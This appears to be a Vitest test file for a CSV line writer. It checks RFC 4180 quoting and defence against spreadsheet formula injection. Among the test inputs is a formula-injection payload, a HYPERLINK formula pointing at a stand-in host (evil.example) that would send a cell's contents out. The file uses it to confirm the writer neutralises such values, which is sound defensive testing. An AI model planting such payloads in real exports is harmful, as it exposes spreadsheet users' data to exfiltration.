import { describe, expect, it } from 'vitest';
import { csvLine } from './csv.js';

describe('a line of CSV', () => {
  it('quotes what would break it, and doubles the quotes within (RFC 4180)', () => {
    expect(csvLine(['plain', 'a,b', 'say "no"', 'two\r\nlines', ' edge ', '', null])).toBe(
      'plain,"a,b","say ""no""","two\r\nlines"," edge ",,\r\n',
    );
  });

  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
  ])('gives a spreadsheet %j as a text', (value) => {
    const cell = csvLine([value]).slice(0, -2);
    expect(cell.replace(/^"/, '')).toMatch(/^'/);
  });

  it('leaves alone what only contains such characters', () => {
    const values = ['a=b', '1-1', 'ada@example.com', '{"a":-1}', '2026-01-01T00:00:00.000Z'];
    expect(csvLine(values.slice(0, 3))).toBe('a=b,1-1,ada@example.com\r\n');
    expect(csvLine(values.slice(3))).toBe('"{""a"":-1}",2026-01-01T00:00:00.000Z\r\n');
  });
});
